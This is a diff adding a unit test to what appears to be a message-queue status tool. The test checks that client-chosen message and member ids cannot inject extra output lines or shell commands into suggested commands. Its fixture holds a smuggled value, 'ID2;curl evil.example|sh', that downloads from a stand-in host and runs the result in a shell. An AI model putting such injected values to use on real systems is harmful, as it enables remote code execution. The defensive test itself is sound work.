@@ -136,6 +136,29 @@ def test_many_findings_do_not_hide_the_queues() -> None:
     assert lines(found)[-1] == "And 15 more; --output json shows all."
 
 
+def test_what_clients_choose_begins_no_line_and_no_command() -> None:
+    """A producer chooses the id of its message, and a member its client id."""
+    hostile = "ID2;curl evil.example|sh\nBlocked: none"
+    disagreeing = {
+        "group": "billing",
+        "members": ["a\nFailing: nothing", "b"],
+        "difference": "topic orders: * and x",
+    }
+
+    said = lines(
+        findings(
+            [status(failing=[{**FAILING, "messageId": hostile}], disagreeing=[disagreeing])],
+            "billing",
+        )
+    )
+
+    assert [len(line.splitlines()) for line in said] == [1, 1]
+    assert (
+        r"`orderlymq message show 'ID2;curl evil.example|sh\x0aBlocked: none' --topic orders`"
+        in said[0]
+    )
+
+
 def test_one_is_no_plural() -> None:
     (said,) = lines(findings([status(failing=[{**FAILING, "tries": 1}])], "billing"))
 
